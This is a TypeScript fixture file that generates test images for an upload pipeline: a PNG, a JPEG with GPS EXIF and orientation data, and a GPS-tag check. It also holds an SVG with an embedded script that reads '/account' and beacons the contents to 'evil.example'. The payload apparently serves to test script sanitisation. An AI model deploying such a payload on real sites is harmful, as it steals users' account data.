import sharp from 'sharp'

/**
 * Images made on the spot for the upload tests: real encoder output, so that the pipeline decodes what a camera or
 * an editor would send.
 */

/** A solid PNG; `alpha` below 1 gives it transparency (which a JPEG could not carry). */
export function pngImage(options: { width?: number; height?: number; color?: string; alpha?: number } = {}) {
  const { width = 64, height = 48, color = '#2a7', alpha = 1 } = options
  const { r, g, b } = hex(color)
  return sharp({ create: { width, height, channels: 4, background: { r, g, b, alpha } } })
    .png()
    .toBuffer()
}

/**
 * A JPEG as a phone takes it: EXIF with the camera, a GPS position and orientation 6 (the sensor's landscape pixels
 * are to be shown rotated a quarter turn, as portrait).
 */
export function jpegWithGps(options: { width?: number; height?: number } = {}) {
  const { width = 120, height = 80 } = options
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 60, b: 40 } } })
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'TestPhone', Model: 'Model X', Software: 'camera 1.0' },
      // libvips numbers the EXIF directories: IFD3 is the GPS one.
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '34/1 25/1 5/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '104/1 2/1 3/1',
      },
    })
    .toBuffer()
}

/** Whether raw EXIF holds a GPS directory (its pointer tag 0x8825, in either byte order). */
export function hasGpsDirectory(exif: Buffer | undefined): boolean {
  if (!exif) return false
  return exif.includes(Buffer.from([0x25, 0x88])) || exif.includes(Buffer.from([0x88, 0x25]))
}

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
    '<script>fetch("/account").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>' +
    '<rect width="100" height="100" fill="red"/></svg>',
)

function hex(color: string) {
  const value = color.replace('#', '')
  const full = value.length === 3 ? [...value].map((c) => c + c).join('') : value
  return {
    r: Number.parseInt(full.slice(0, 2), 16),
    g: Number.parseInt(full.slice(2, 4), 16),
    b: Number.parseInt(full.slice(4, 6), 16),
  }
}
